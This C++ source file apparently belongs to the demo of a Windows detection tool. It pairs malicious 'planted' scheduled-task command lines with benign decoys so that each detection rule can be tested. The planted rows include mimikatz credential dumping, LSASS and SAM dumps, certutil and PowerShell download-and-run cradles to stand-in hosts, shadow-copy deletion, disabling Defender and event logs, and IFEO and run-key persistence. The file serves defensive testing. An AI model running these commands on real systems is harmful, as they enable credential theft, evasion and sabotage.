// Command lines that wait to be run: the rules for processes are asked of them. Scheduled tasks
// keep them here; what is planted and what is honest differ in what the command does alone.
#include "tools/demo/exhibition/exhibition.h"
#include "tools/demo/exhibition/task_rows.h"
#include "tools/demo/exhibition/values.h"

namespace xiezhi::demo {
namespace {

using enum Role;

// clang-format off
constexpr auto kCommands = std::to_array<TaskRow>({
    {Planted, "archive_with_password", R"(\Jobs\archive)", R"(C:\Program Files\WinRAR\rar.exe)", R"(a -hpS3cret -m5 -r D:\Out\all.rar D:\Data)"},
    {Decoy, "archive_with_password", R"(\Acme Jobs\archive)", R"(C:\Program Files\7-Zip\7z.exe)", R"(a -mx5 D:\Backup\day.7z D:\Data)"},
    {Planted, "audit_policy_command", R"(\Jobs\audit)", "auditpol.exe", R"(/set /category:* /success:disable /failure:disable)"},
    {Decoy, "audit_policy_command", R"(\Acme Jobs\audit)", "auditpol.exe", R"(/set /category:"Logon/Logoff" /success:enable /failure:enable)"},
    {Planted, "bits_command", R"(\Jobs\bits)", "bitsadmin.exe", R"(/transfer job /download http://203.0.113.9/a.cab D:\Out\a.cab)"},
    {Decoy, "bits_command", R"(\Acme Jobs\bits)", "bitsadmin.exe", R"(/transfer inventory /download http://10.20.0.5/inventory.cab D:\In\inventory.cab)"},
    {Planted, "credential_tool", R"(\Jobs\credentials)", R"(C:\Tools\ct.exe)", R"("privilege::debug" "sekurlsa::logonpasswords" exit)"},
    {Planted, "credential_tool", R"(\Jobs\credentials by name)", R"(C:\Tools\mimikatz.exe)"},
    {Planted, "credential_tool", R"(\Jobs\credentials renamed)", R"(C:\Tools\ct-notes.exe)"},
    {Decoy, "credential_tool", R"(\Acme Jobs\credentials)", R"(C:\Windows\System32\findstr.exe)", R"(/s sekurlsa::logonpasswords D:\Rules\*.yml)"},
    {Planted, "defender_exclusion_by_command", R"(\Jobs\exclusion)", "powershell.exe", R"(-c "Add-MpPreference -ExclusionPath C:\Windows\Temp")"},
    {Decoy, "defender_exclusion_by_command", R"(\Acme Jobs\exclusion)", "powershell.exe", R"(-c "Add-MpPreference -ExclusionPath D:\MSSQL\Data")"},
    {Planted, "defender_switched_off_by_command", R"(\Jobs\protection)", "powershell.exe", R"(-c "Set-MpPreference -DisableRealtimeMonitoring $true")"},
    {Decoy, "defender_switched_off_by_command", R"(\Acme Jobs\protection)", "powershell.exe", R"(-c "Set-MpPreference -DisableRealtimeMonitoring $false")"},
    {Planted, "disguised_extension", R"(\Jobs\extension)", R"(C:\Tools\invoice.pdf.exe)"},
    {Decoy, "disguised_extension", R"(\Acme Jobs\extension)", R"("C:\Program Files\Acme\report.v2.exe")"},
    {Planted, "download_by_windows_tool", R"(\Jobs\download)", "certutil.exe", R"(-urlcache -split -f http://203.0.113.9/t.exe D:\Out\t.exe)"},
    {Planted, "download_by_windows_tool", R"(\Jobs\download scriptlet)", "regsvr32.exe", "/s /n /u /i:http://203.0.113.9/t.sct scrobj.dll"},
    {Planted, "download_by_windows_tool", R"(\Jobs\download page)", "mshta.exe", "http://203.0.113.9/t.hta"},
    {Decoy, "download_by_windows_tool", R"(\Acme Jobs\download)", "certutil.exe", R"(-hashfile D:\Install\setup.exe SHA256)"},
    {Decoy, "download_by_windows_tool", R"(\Acme Jobs\download in house)", "bitsadmin.exe", R"(/transfer update http://10.20.0.5/update.cab D:\In\update.cab)"},
    {Planted, "event_log_switched_off", R"(\Jobs\log)", "sc.exe", "config eventlog start= disabled"},
    {Planted, "event_log_switched_off", R"(\Jobs\log channel)", "wevtutil.exe", "sl Security /e:false"},
    {Decoy, "event_log_switched_off", R"(\Acme Jobs\log)", "wevtutil.exe", "sl Security /ms:1073741824"},
    {Planted, "foreign_code_by_windows_tool", R"(\Jobs\foreign code)", "rundll32.exe", R"(C:\Users\Public\fc.dll,Start)"},
    {Planted, "foreign_code_by_windows_tool", R"(\Jobs\foreign project)", R"(C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe)", R"(C:\Users\Public\fc.csproj)"},
    {Planted, "foreign_code_by_windows_tool", R"(\Jobs\foreign process)", "wmic.exe", R"(process call create "powershell -nop -c whoami")"},
    {Decoy, "foreign_code_by_windows_tool", R"(\Acme Jobs\own code)", "rundll32.exe", R"("C:\Program Files\Acme\acme.dll",Register)"},
    {Planted, "ifeo_debugger_by_command", R"(\Jobs\debugger)", "reg.exe", R"(add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /d cmd.exe /f)"},
    {Decoy, "ifeo_debugger_by_command", R"(\Acme Jobs\debugger)", "reg.exe", R"(add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\acme.exe" /v Debugger /d C:\Windows\System32\vsjitdebugger.exe /f)"},
    {Planted, "log_cleared_by_command", R"(\Jobs\clear)", "wevtutil.exe", "cl Security"},
    {Decoy, "log_cleared_by_command", R"(\Acme Jobs\clear)", "wevtutil.exe", R"(epl Security D:\LogBackup\security.evtx)"},
    {Planted, "logon_script_by_command", R"(\Jobs\logon)", "reg.exe", R"(add HKCU\Environment /v UserInitMprLogonScript /d C:\Users\Public\l.bat /f)"},
    {Decoy, "logon_script_by_command", R"(\Acme Jobs\logon)", "reg.exe", R"(add "HKCU\Control Panel\Desktop" /v SCRNSAVE.EXE /d C:\windows\system32\scrnsave.scr /f)"},
    {Planted, "lookalike_name", R"(\Jobs\lookalike)", R"(C:\Tools\svhost.exe)"},
    {Decoy, "lookalike_name", R"(\Acme Jobs\lookalike)", R"("C:\Program Files\Acme\hostsvc.exe")"},
    {Planted, "lsass_dump", R"(\Jobs\dump)", "rundll32.exe", R"(C:\Windows\System32\comsvcs.dll, MiniDump 720 D:\Out\l.dmp full)"},
    {Planted, "lsass_dump", R"(\Jobs\dump hive)", "reg.exe", R"(save HKLM\SAM D:\Out\sam.hiv)"},
    {Decoy, "lsass_dump", R"(\Acme Jobs\dump)", "reg.exe", R"(save HKLM\SOFTWARE\Acme D:\Backup\acme.hiv)"},
    {Planted, "miner_command_line", R"(\Jobs\mine)", R"(C:\Tools\mc.exe)", "-o stratum+tcp://pool.example:3333 -u erp01 -p x"},
    {Decoy, "miner_command_line", R"(\Acme Jobs\mine)", R"(C:\Windows\System32\findstr.exe)", R"(/c:"stratum+tcp://" D:\Logs\proxy.log)"},
    {Planted, "nameless_program_in_data_folder", R"(\Jobs\nameless)", R"(C:\ProgramData\Shop\nameless.exe)"},
    {Decoy, "nameless_program_in_data_folder", R"(\Acme Jobs\nameless)", R"(C:\ProgramData\Shop\named.exe)"},
    {Planted, "powershell_command_fetches_from_nowhere", R"(\Jobs\fetch)", "powershell.exe", R"(-c "Invoke-WebRequest http://203.0.113.9/f.zip -OutFile D:\Out\f.zip")"},
    {Decoy, "powershell_command_fetches_from_nowhere", R"(\Acme Jobs\fetch)", "powershell.exe", R"(-c "Invoke-WebRequest http://10.20.0.5/f.zip -OutFile D:\In\f.zip")"},
    {Planted, "powershell_downgrade_command", R"(\Jobs\downgrade)", "powershell.exe", "-Version 2 -Command Get-Date"},
    {Decoy, "powershell_downgrade_command", R"(\Acme Jobs\downgrade)", "powershell.exe", "-Version 5.1 -Command Get-Date"},
    {Planted, "powershell_download_command", R"(\Jobs\run from web)", "powershell.exe", R"x(-c "IEX (New-Object Net.WebClient).DownloadString('http://run.example/a.ps1')")x"},
    {Planted, "powershell_encoded", R"(\Jobs\encoded)", "powershell.exe", "-e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQA"},
    {Decoy, "powershell_encoded", R"(\Acme Jobs\encoded)", "powershell.exe", R"(-ExecutionPolicy AllSigned -Command "& 'C:\Program Files\Acme\day.ps1'")"},
    {Planted, "powershell_hidden_window", R"(\Jobs\hidden window)", "powershell.exe", "-w hidden -nop -c Get-Date"},
    {Decoy, "powershell_hidden_window", R"(\Acme Jobs\hidden window)", "powershell.exe", "-NoProfile -Command Get-Date"},
    {Planted, "process_in_hideout", R"(\Jobs\hideout)", R"(C:\Users\Public\ph.exe)"},
    {Decoy, "process_in_hideout", R"(\Acme Jobs\hideout)", R"("C:\Users\Public Tools\ph.exe")"},
    {Planted, "program_in_user_folder", R"(\Jobs\user folder)", R"(C:\Users\li\AppData\Roaming\pu.exe)"},
    {Decoy, "program_in_user_folder", R"(\Acme Jobs\user folder)", R"(C:\Users\wang\AppData\Roaming\pu.exe)"},
    {Planted, "random_program_name", R"(\Jobs\random)", R"(C:\Users\Public\x3k9q2z7.exe)"},
    {Decoy, "random_program_name", R"(\Acme Jobs\random)", R"(C:\Users\wang\AppData\Local\chat7.exe)"},
    {Planted, "recovery_inhibited", R"(\Jobs\recovery)", "vssadmin.exe", "delete shadows /all /quiet"},
    {Planted, "recovery_inhibited", R"(\Jobs\recovery of copies)", "wmic.exe", "shadowcopy delete"},
    {Planted, "recovery_inhibited", R"(\Jobs\recovery of boot)", "bcdedit.exe", "/set {default} recoveryenabled no"},
    {Planted, "recovery_inhibited", R"(\Jobs\recovery of backup)", "wbadmin.exe", "delete catalog -quiet"},
    {Planted, "recovery_inhibited", R"(\Jobs\recovery of system)", "reagentc.exe", "/disable"},
    {Decoy, "recovery_inhibited", R"(\Acme Jobs\recovery)", "wbadmin.exe", "delete backup -keepVersions:5 -quiet"},
    {Planted, "remote_tool_started", R"(\Jobs\tunnel)", R"(C:\Tools\rt.exe)", "tcp -server=203.0.113.9:8024 -vkey=a1b2"},
    {Decoy, "remote_tool_started", R"(\Acme Jobs\tunnel)", R"(C:\Windows\System32\OpenSSH\ssh.exe)", "git@git.acme.example git-upload-pack erp.git"},
    {Planted, "run_key_by_command", R"(\Jobs\run key)", "reg.exe", R"(add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v Update /d C:\Users\Public\rk.exe /f)"},
    {Decoy, "run_key_by_command", R"(\Acme Jobs\run key)", "reg.exe", R"(add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v Acme /d "C:\Program Files\Acme\tray.exe" /f)"},
    {Planted, "scheduled_task", R"(\Jobs\task)", "schtasks.exe", R"(/create /tn Update /sc minute /tr C:\Users\Public\st.exe /f)"},
    {Decoy, "scheduled_task", R"(\Acme Jobs\task)", "schtasks.exe", R"(/create /tn Acme /sc daily /tr "C:\Program Files\Acme\agent.exe" /f)"},
    {Planted, "security_services_stopped", R"(\Jobs\security)", "sc.exe", "stop WinDefend"},
    {Planted, "security_services_stopped", R"(\Jobs\security process)", "taskkill.exe", "/f /im HipsDaemon.exe"},
    {Decoy, "security_services_stopped", R"(\Acme Jobs\security)", "sc.exe", "config WinDefend start= auto"},
    {Planted, "service_failure_command", R"(\Jobs\failure)", "sc.exe", R"(failure AcmeSync reset= 0 actions= run/1000 command= "cmd.exe /c C:\Users\Public\f.bat")"},
    {Decoy, "service_failure_command", R"(\Acme Jobs\failure)", "sc.exe", R"(failure AcmeSync reset= 0 actions= run/1000 command= "C:\Program Files\Acme Sync\notify.exe")"},
    {Planted, "service_hidden", R"(\Jobs\hide)", "sc.exe", "sdset UpdateHelper D:(D;;DCLCWPDTSD;;;IU)(D;;DCLCWPDTSD;;;BA)(A;;CCLCSWLOCRRC;;;SU)"},
    {Decoy, "service_hidden", R"(\Acme Jobs\hide)", "sc.exe", "sdset AcmeBackup D:(A;;CCLCSWRPWPDTLOCRRC;;;SY)(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;BA)"},
    {Planted, "svchost_without_group", R"(\Jobs\group)", R"(C:\Windows\System32\svchost.exe)"},
    {Decoy, "svchost_without_group", R"(\Acme Jobs\group)", R"(C:\Windows\System32\svchost.exe)", "-k netsvcs -p"},
    {Planted, "system_name_elsewhere", R"(\Jobs\elsewhere)", R"(C:\Tools\spoolsv.exe)"},
    {Decoy, "system_name_elsewhere", R"(\Acme Jobs\elsewhere)", R"(C:\Windows\SysWOW64\dllhost.exe)", "/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"},
    {Planted, "windows_tool_turned_launcher", R"(\Jobs\launcher)", "wuauclt.exe", R"(/UpdateDeploymentProvider C:\Users\Public\wu.dll /RunHandlerComServer)"},
    {Planted, "windows_tool_turned_launcher", R"(\Jobs\launcher link)", "rundll32.exe", R"(url.dll,FileProtocolHandler file:///C:/Tools/lt.hta)"},
    {Decoy, "windows_tool_turned_launcher", R"(\Acme Jobs\launcher)", "wuauclt.exe", "/detectnow"},
    {Planted, "wmi_starts_shell", R"(\Jobs\mof)", "mofcomp.exe", R"(C:\Windows\Temp\w.mof)"},
    {Decoy, "wmi_starts_shell", R"(\Acme Jobs\mof)", "mofcomp.exe", R"("C:\Program Files\Acme\provider.mof")"},
});

/// A task that fetched this would be told of for itself.
constexpr auto kOfRunKey = std::to_array<ValueRow>({
    {Decoy, "powershell_download_command", HiveOf::Wang, R"(Software\Microsoft\Windows\CurrentVersion\Run)", "Choco", text(R"x(powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1')")x")},
});
// clang-format on

}  // namespace

void exhibit_commands(const Exhibition& at) {
    put_tasks(at.exhibit, "7C3F9B21", kCommands);
    put_values(at.exhibit, kOfRunKey);
}

}  // namespace xiezhi::demo
